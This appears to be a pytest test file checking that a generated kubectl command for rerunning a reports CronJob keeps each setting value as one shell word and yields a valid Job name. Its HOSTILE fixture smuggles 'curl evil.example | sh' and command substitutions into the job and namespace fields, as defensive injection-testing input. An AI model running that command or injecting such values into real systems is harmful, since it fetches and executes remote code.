"""The command of an alert is one command, whatever a setting says."""

import re
import shlex

import pytest

from src.config.settings import ReportSettings
from src.pipeline.job import rerun_command

from ..builders import make_window

HOSTILE = "a b; curl evil.example | sh; $(id) `id` 'x'"


@pytest.mark.parametrize("job", ["reports-generator-29924384", f"{HOSTILE}-29924384"])
def test_every_value_in_a_printed_command_is_one_word_of_it(job: str) -> None:
    """A shell takes it as it stands, though settings of that form are refused before."""
    settings = ReportSettings.model_construct(job_name=job, pod_namespace=HOSTILE)
    cronjob = job.rpartition("-")[0]

    made, changed, created = rerun_command(make_window(), settings, resend=True, count=2).rsplit(" | kubectl", 2)

    assert shlex.split(made.replace("$(date +%s)", "NOW")) == [
        *("kubectl", "create", "job", f"{cronjob}-again-NOW", f"--from=cronjob/{cronjob}", "-n", HOSTILE),
        *("--dry-run=client", "-o", "yaml"),
    ]
    variables = ["REPORT_START=2026-11-22T13", "REPORT_COUNT=2", "REPORT_RESEND=true"]
    assert shlex.split(changed) == ["set", "env", "--local", "-f", "-", *variables, "-o", "yaml"]
    assert shlex.split(created) == ["create", "-f", "-"]


@pytest.mark.parametrize("cronjob", ["r" * 52, "r" * 45 + ".eports", "r" * 44 + "-.eports"])
def test_the_new_jobs_name_is_one_that_kubernetes_takes(cronjob: str) -> None:
    """At most 63 characters, as a label; the CronJob that it is made from keeps its whole name."""
    settings = ReportSettings.model_construct(job_name="x", cronjob_name=cronjob)

    words = shlex.split(rerun_command(make_window(), settings).replace("$(date +%s)", "1795435200"))

    assert len(words[3]) <= 63
    assert re.fullmatch(r"[a-z0-9]([-a-z0-9]*[a-z0-9])?(\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*", words[3])
    assert f"--from=cronjob/{cronjob}" in words
